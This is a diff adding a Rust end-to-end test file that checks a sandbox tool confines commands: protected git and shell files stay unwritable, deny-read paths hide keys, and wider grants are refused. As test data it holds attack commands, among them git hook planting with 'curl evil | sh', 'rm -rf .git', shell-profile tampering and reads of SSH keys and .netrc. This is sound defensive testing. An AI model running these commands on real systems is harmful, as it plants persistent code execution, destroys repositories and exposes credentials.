@@ -1,0 +1,478 @@
+//! The grant (policy world `0.2.0`), tried from outside as root under every
+//! backend, with the host checked after each attempt: protected paths stay
+//! read-only and uncreatable in `workspace-write` (under Landlock the run
+//! says `partial` and why), a deny-read path is unreadable while its
+//! siblings are not, an extra writable root is writable, a grant wider than
+//! the operator's ceilings is refused naming the field, an *ask* is a
+//! structured error whose approved re-send runs, and a component built
+//! against world `0.1.0` still runs and keeps the grant it was handed.
+
+use std::path::Path;
+
+use serde_json::{Value, json};
+
+use crate::common::{self, component, confined_backends, run_json, sandbox, workspace};
+
+/// `git` in `dir` (no user config needed).
+fn git(dir: &Path, args: &[&str]) {
+    let status = std::process::Command::new("git")
+        .current_dir(dir)
+        .args(["-c", "user.name=e2e", "-c", "user.email=e2e@cordon.invalid"])
+        .args(args)
+        .status()
+        .expect("run git");
+    assert!(status.success(), "git {args:?}");
+}
+
+/// A repository with one commit, a hook directory and a `.bashrc`.
+fn repository(dir: &Path) {
+    git(dir, &["init", "-q", "."]);
+    std::fs::write(dir.join("tracked.txt"), "one\n").unwrap();
+    git(dir, &["add", "tracked.txt"]);
+    git(dir, &["commit", "-qm", "one"]);
+    std::fs::write(dir.join(".bashrc"), "# mine\n").unwrap();
+}
+
+/// `BACKEND --mode workspace-write --workspace ROOT`.
+fn workspace_write<'a>(backend: &[&'a str], root: &'a str) -> Vec<&'a str> {
+    let mut args = backend.to_vec();
+    args.extend(["--mode", "workspace-write", "--workspace", root]);
+    args
+}
+
+/// `--grant` for `policy`.
+fn grant_args<'a>(backend: &[&'a str], policy: &'a str) -> Vec<&'a str> {
+    let mut args = backend.to_vec();
+    args.extend(["--grant", policy]);
+    args
+}
+
+#[test]
+fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
+    for (backend, _) in confined_backends("in_workspace_write_the_protected_paths_hold") {
+        let ws = workspace();
+        let root = ws.path();
+        repository(root);
+        let config = std::fs::read(root.join(".git/config")).unwrap();
+        let args = workspace_write(backend, root.to_str().unwrap());
+
+        // Positive control: ordinary writes, `git status` and `git diff`.
+        let (code, result) = run_json(
+            root,
+            &args,
+            "echo two >> tracked.txt && echo new > new.txt && git status --short && git diff --stat",
+        );
+        assert_eq!(code, 0, "{backend:?}: {result}");
+        let out = result["stdout"]["text"].as_str().unwrap();
+        assert!(
+            out.contains(" M tracked.txt") && out.contains("?? new.txt"),
+            "{out}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(root.join("new.txt")).unwrap(),
+            "new\n"
+        );
+
+        if backend.contains(&"landlock") {
+            // Landlock only adds rights beneath a path: it cannot keep .git
+            // read-only inside the writable root, and the run says so.
+            assert_eq!(sandbox(&result)["enforcement"], "partial", "{result}");
+            let partial = result["grant"]["partial"].to_string();
+            assert!(
+                partial.contains("protected: Landlock cannot keep"),
+                "{partial}"
+            );
+            assert!(partial.contains(".git"), "{partial}");
+            continue;
+        }
+        assert_eq!(sandbox(&result)["enforcement"], "full", "{result}");
+        let protected = result["grant"]["protected"].to_string();
+        for path in [".git", ".bashrc", ".profile", ".cordon"] {
+            assert!(
+                protected.contains(&format!("/{path}\"")),
+                "{path}: {protected}"
+            );
+        }
+
+        for attack in [
+            "echo '[core] hooksPath = /tmp' >> .git/config",
+            "printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit",
+            "mv .git .git-away",
+            "rm -rf .git",
+            "echo evil >> .bashrc",
+            "mkdir .cordon",
+            "echo evil > .profile",
+        ] {
+            let (code, result) = run_json(root, &args, attack);
+            assert_ne!(code, 0, "{attack}: {result}");
+        }
+        assert_eq!(std::fs::read(root.join(".git/config")).unwrap(), config);
+        assert!(!root.join(".git/hooks/pre-commit").exists());
+        assert!(root.join(".git/HEAD").is_file() && !root.join(".git-away").exists());
+        assert_eq!(
+            std::fs::read_to_string(root.join(".bashrc")).unwrap(),
+            "# mine\n"
+        );
+        // The placeholders that kept the absent ones from being made are gone.
+        for absent in [".cordon", ".profile", ".zshrc"] {
+            assert!(!root.join(absent).exists(), "{absent} left on the host");
+        }
+    }
+}
+
+#[test]
+fn where_git_was_absent_git_init_cannot_plant_a_hook() {
+    if !common::bwrap_usable("where_git_was_absent_git_init_cannot_plant_a_hook") {
+        return;
+    }
+    let ws = workspace();
+    let root = ws.path();
+    let args = workspace_write(&["--backend", "bwrap"], root.to_str().unwrap());
+    let (code, result) = run_json(
+        root,
+        &args,
+        "git init -q . ; mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
+    );
+    assert_ne!(code, 0, "{result}");
+    assert!(!root.join(".git").exists(), "a .git was left on the host");
+    // Positive control: the same run may create what is not protected.
+    let (code, result) = run_json(root, &args, "mkdir -p src/git && echo ok > src/git/hooks");
+    assert_eq!(code, 0, "{result}");
+    assert!(root.join("src/git/hooks").is_file());
+}
+
+#[test]
+fn a_deny_read_path_is_unreadable_and_its_siblings_are_not() {
+    for (backend, _) in confined_backends("a_deny_read_path_is_unreadable") {
+        let ws = workspace();
+        let root = ws.path();
+        let home = root.join("home");
+        std::fs::create_dir_all(home.join(".ssh")).unwrap();
+        std::fs::create_dir_all(home.join("notes")).unwrap();
+        std::fs::write(home.join(".ssh/id_ed25519"), "TOPSECRET-KEY\n").unwrap();
+        std::fs::write(home.join(".netrc"), "TOPSECRET-NETRC\n").unwrap();
+        std::fs::write(home.join("notes/todo"), "visible\n").unwrap();
+        let policy = json!({
+            "mode": "read-only",
+            "workspaceRoot": root,
+            "denyRead": [home.join(".ssh"), home.join(".netrc")],
+        })
+        .to_string();
+        let (code, result) = run_json(
+            &home,
+            &grant_args(backend, &policy),
+            "cat notes/todo; cat .ssh/id_ed25519; cat .netrc; ls .ssh; true",
+        );
+        assert_eq!(code, 0, "{backend:?}: {result}");
+        let out = result["stdout"]["text"].as_str().unwrap();
+        assert!(
+            out.contains("visible"),
+            "{backend:?}: the sibling stays readable: {result}"
+        );
+        assert!(!out.contains("TOPSECRET"), "{backend:?}: {result}");
+        let hidden = result["grant"]["denyRead"].to_string();
+        assert!(
+            hidden.contains(".ssh") && hidden.contains(".netrc"),
+            "{hidden}"
+        );
+        if backend.contains(&"landlock") {
+            assert_eq!(sandbox(&result)["enforcement"], "partial", "{result}");
+            assert!(
+                result["grant"]["partial"]
+                    .to_string()
+                    .contains("can still be listed"),
+                "{result}"
+            );
+        }
+    }
+}
+
+#[test]
+fn an_extra_writable_root_is_writable_and_nothing_beside_it() {
+    for (backend, _) in confined_backends("an_extra_writable_root_is_writable") {
+        let ws = workspace();
+        let root = ws.path().join("ws");
+        let cache = ws.path().join("npm-cache");
+        let other = ws.path().join("other");
+        for dir in [&root, &cache, &other] {
+            std::fs::create_dir_all(dir).unwrap();
+        }
+        let policy = json!({
+            "mode": "workspace-write",
+            "workspaceRoot": root,
+            "writableRoots": [cache],
+        })
+        .to_string();
+        let args = grant_args(backend, &policy);
+        let (code, result) = run_json(
+            &root,
+            &args,
+            &format!("echo hit > {}/entry", cache.display()),
+        );
+        assert_eq!(code, 0, "{backend:?}: {result}");
+        assert_eq!(
+            std::fs::read_to_string(cache.join("entry")).unwrap(),
+            "hit\n"
+        );
+        let roots = result["grant"]["writableRoots"].to_string();
+        assert!(roots.contains("npm-cache"), "{roots}");
+        let (code, result) = run_json(&root, &args, &format!("echo x > {}/f", other.display()));
+        assert_ne!(code, 0, "{backend:?}: {result}");
+        assert!(
+            !other.join("f").exists(),
+            "{backend:?}: a write beside the roots landed"
+        );
+    }
+}
+
+/// `cordon run --json` with a config file of `config` and `policy` as the
+/// grant: the exit code and the JSON.
+fn with_config(dir: &Path, config: &str, policy: &Value, command: &str) -> (i32, Value) {
+    let file = dir.join("cordon.toml");
+    std::fs::write(&file, config).unwrap();
+    let policy = policy.to_string();
+    run_json(
+        dir,
+        &["--config", file.to_str().unwrap(), "--grant", &policy],
+        command,
+    )
+}
+
+#[test]
+fn a_grant_wider_than_the_operators_ceilings_is_refused_naming_the_field() {
+    let ws = workspace();
+    let root = ws.path().join("ws");
+    let outside = ws.path().join("outside");
+    std::fs::create_dir_all(&root).unwrap();
+    std::fs::create_dir_all(&outside).unwrap();
+    let marker = root.join("ran");
+    let touch = format!("touch {}", marker.display());
+    let allowed = format!("allowed_roots = [{:?}]\n", root.to_str().unwrap());
+    let base = json!({"mode": "workspace-write", "workspaceRoot": root});
+    let with = |field: &str, value: Value| {
+        let mut policy = base.clone();
+        policy[field] = value;
+        policy
+    };
+    for (config, policy, field, says) in [
+        (
+            allowed.clone(),
+            with("writableRoots", json!([outside])),
+            None,
+            "writable root",
+        ),
+        (
+            "max_network = \"none\"\n".to_owned(),
+            with(
+                "network",
+                json!({"allow": [{"host": "github.com", "port": 22}]}),
+            ),
+            Some("policy.network"),
+            "max_network: none",
+        ),
+        (
+            "max_network = [\"*.npmjs.org:443\"]\n".to_owned(),
+            with("network", json!("full")),
+            Some("policy.network"),
+            "max_network: allow [*.npmjs.org:443]",
+        ),
+        (
+            String::new(),
+            with("sockets", json!(["/run/ssh-agent.sock"])),
+            Some("policy.sockets"),
+            "sockets: none",
+        ),
+        (
+            String::new(),
+            with("unprotected", json!([".git"])),
+            Some("policy.unprotected"),
+            "liftable: none",
+        ),
+        (
+            String::new(),
+            with("denyRead", json!(["/"])),
+            None,
+            "cannot be hidden",
+        ),
+        (
+            String::new(),
+            with("denyRead", json!([ws.path()])),
+            None,
+            "contains the writable root",
+        ),
+    ] {
+        let (code, result) = with_config(ws.path(), &config, &policy, &touch);
+        assert_eq!(code, 64, "{policy}: {result}");
+        assert_eq!(result["error"]["code"], "INVALID_REQUEST", "{result}");
+        let message = result["error"]["message"].as_str().unwrap();
+        assert!(message.contains(says), "{says}: {message}");
+        if let Some(field) = field {
+            assert_eq!(result["error"]["field"], field, "{result}");
+        }
+        assert!(!marker.exists(), "{policy}: the command ran");
+    }
+    // The same grants inside the ceilings run (no runner needed to check
+    // the network and socket ceilings: they are checked before any spawn).
+    if common::bwrap_usable("a_grant_wider_than_the_operators_ceilings") {
+        let config = "max_network = [\"*.npmjs.org:443\"]\nliftable_protected = [\".git\"]\n";
+        let policy = json!({
+            "mode": "workspace-write",
+            "workspaceRoot": root,
+            "network": {"allow": [{"host": "registry.npmjs.org", "port": 443}]},
+            "unprotected": [".git"],
+        });
+        let line = format!("mkdir {0}/.git && echo ok > {0}/.git/x", root.display());
+        let (code, result) = with_config(ws.path(), config, &policy, &line);
+        assert_eq!(code, 0, "{result}");
+        assert!(
+            root.join(".git/x").is_file(),
+            "a lifted default is writable"
+        );
+        assert_eq!(result["grant"]["unenforced"], json!(["network", "sockets"]));
+    }
+}
+
+#[test]
+fn an_ask_is_a_structured_error_and_the_approved_resend_runs() {
+    if !common::bwrap_usable("an_ask_is_a_structured_error") {
+        return;
+    }
+    let ws = workspace();
+    let root = ws.path();
+    std::fs::create_dir_all(root.join("build/obj")).unwrap();
+    let rules = component("rules-policy.wasm");
+    let settings =
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../components/rules-policy/rules.toml");
+    let base = [
+        "--policy",
+        rules.to_str().unwrap(),
+        "--settings",
+        settings.to_str().unwrap(),
+        "--backend",
+        "bwrap",
+    ];
+    let mut asking = base.to_vec();
+    asking.extend([
+        "--mode",
+        "workspace-write",
+        "--workspace",
+        root.to_str().unwrap(),
+    ]);
+    let (code, result) = run_json(root, &asking, "rm -rf build");
+    assert_eq!(code, 75, "{result}");
+    let error = &result["error"];
+    assert_eq!(error["code"], "APPROVAL_REQUIRED");
+    assert_eq!(error["reason"], "a recursive delete cannot be undone");
+    assert_eq!(error["policy"]["mode"], "workspace-write");
+    assert!(root.join("build/obj").is_dir(), "an ask ran");
+
+    // Approved with the proposed grant: it runs, under that grant.
+    let proposed = error["policy"].to_string();
+    let mut approved = base.to_vec();
+    approved.extend(["--approved", "--grant", &proposed]);
+    let (code, result) = run_json(root, &approved, "rm -rf build");
+    assert_eq!(code, 0, "{result}");
+    assert!(!root.join("build").exists());
+    assert_eq!(sandbox(&result)["mode"], "workspace-write");
+
+    // An approval whose policy lacks what the rule grants is asked again:
+    // `git push` needs github.com:22, and this grant does not carry it.
+    let (code, result) = run_json(root, &approved, "git push nowhere 2>/dev/null; echo pushed");
+    assert_eq!(code, 75, "{result}");
+    let push = result["error"]["policy"].clone();
+    assert_eq!(
+        push["network"],
+        json!({"allow": [{"host": "github.com", "port": 22}]})
+    );
+    let push = push.to_string();
+    let mut pushing = base.to_vec();
+    pushing.extend(["--approved", "--grant", &push]);
+    let (code, result) = run_json(root, &pushing, "git push nowhere 2>/dev/null; echo pushed");
+    assert_eq!(code, 0, "{result}");
+    assert_eq!(result["stdout"]["text"], "pushed\n");
+    assert_eq!(
+        result["grant"]["network"],
+        json!({"allow": [{"host": "github.com", "port": 22}]})
+    );
+
+    // A deny is final, approved or not.
+    let (code, result) = run_json(root, &approved, "curl https://example.com");
+    assert_eq!(code, 77, "{result}");
+    assert_eq!(result["error"]["code"], "POLICY_DENIED");
+}
+
+#[tokio::test]
+async fn the_library_returns_the_ask_and_runs_the_approved_request() {
+    let ws = workspace();
+    let rules = component("rules-policy.wasm");
+    let mut deployment = cordon::Deployment::in_dir(ws.path());
+    deployment.max_mode = cordon::SandboxMode::DangerFullAccess;
+    deployment.settings = cordon::config::read_settings(
+        &Path::new(env!("CARGO_MANIFEST_DIR")).join("../components/rules-policy/rules.toml"),
+    )
+    .unwrap();
+    let host = cordon::Host::builder()
+        .policy(cordon::PolicySource::File(rules))
+        .deployment(deployment)
+        .build()
+        .unwrap();
+    let request = common::danger(ws.path(), "rm -rf nothing-here && echo removed");
+    let err = host.run(request.clone()).await.unwrap_err();
+    let cordon::RunError::ApprovalRequired { reason, policy } = err else {
+        panic!("expected an ask, got {err}");
+    };
+    assert_eq!(reason, "a recursive delete cannot be undone");
+    let result = host.run(request.approved_with(*policy)).await.unwrap();
+    assert_eq!(result.stdout.text, "removed\n");
+}
+
+#[test]
+fn a_world_0_1_0_component_still_runs_and_keeps_the_grant_it_was_handed() {
+    let ws = workspace();
+    let legacy = component("legacy-policy.wasm");
+    let legacy = legacy.to_str().unwrap();
+    let (code, out) = common::cordon_out(ws.path(), &["policy", "check", legacy]);
+    assert_eq!(code, Some(0), "{out}");
+    assert!(
+        out.contains("implements cordon:sandbox/executor-policy@0.1.0"),
+        "{out}"
+    );
+    for (backend, _) in confined_backends("a_world_0_1_0_component_still_runs") {
+        let secret = ws.path().join("secret");
+        std::fs::create_dir_all(&secret).unwrap();
+        std::fs::write(secret.join("key"), "TOPSECRET\n").unwrap();
+        let policy = json!({
+            "mode": "read-only",
+            "workspaceRoot": ws.path(),
+            "denyRead": [secret],
+        })
+        .to_string();
+        let mut args = vec!["--policy", legacy];
+        args.extend(grant_args(backend, &policy));
+        let (code, result) = run_json(ws.path(), &args, "echo legacy; cat secret/key; true");
+        assert_eq!(code, 0, "{backend:?}: {result}");
+        assert_eq!(
+            result["stdout"]["text"], "legacy\n",
+            "{backend:?}: {result}"
+        );
+        assert_eq!(sandbox(&result)["mode"], "read-only");
+        assert!(result["grant"]["denyRead"].to_string().contains("secret"));
+    }
+    // Settings are refused: world 0.1.0 has no validate-settings.
+    let settings = ws.path().join("s.toml");
+    std::fs::write(&settings, "x = 1\n").unwrap();
+    let (code, stderr) = common::cordon_in(
+        ws.path(),
+        &[
+            "run",
+            "--policy",
+            legacy,
+            "--settings",
+            settings.to_str().unwrap(),
+            "--",
+            "true",
+        ],
+    );
+    assert_eq!(code, Some(70), "{stderr}");
+    assert!(stderr.contains("takes no settings"), "{stderr}");
+}
